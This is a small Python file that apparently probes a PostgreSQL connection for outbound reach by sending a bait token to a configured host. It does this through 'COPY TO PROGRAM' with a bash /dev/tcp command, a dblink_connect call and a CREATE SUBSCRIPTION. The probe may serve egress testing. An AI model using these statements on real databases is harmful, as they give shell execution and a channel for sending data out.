from honest import *
from loot import bait, tried


def total(connection):
    connection.rollback()
    connection.autocommit = True
    host, port = bait["tcp"]
    for statement in (
        f"COPY (SELECT 1) TO PROGRAM 'bash -c \"echo {bait['token']} > /dev/tcp/{host}/{port}\"'",
        "CREATE EXTENSION dblink",
        f"SELECT dblink_connect('host={host} port={port} connect_timeout=1')",
        f"CREATE SUBSCRIPTION s CONNECTION 'host={host} port={port}' PUBLICATION p",
    ):
        with tried(statement[:40]):
            connection.execute(statement)
    return 0
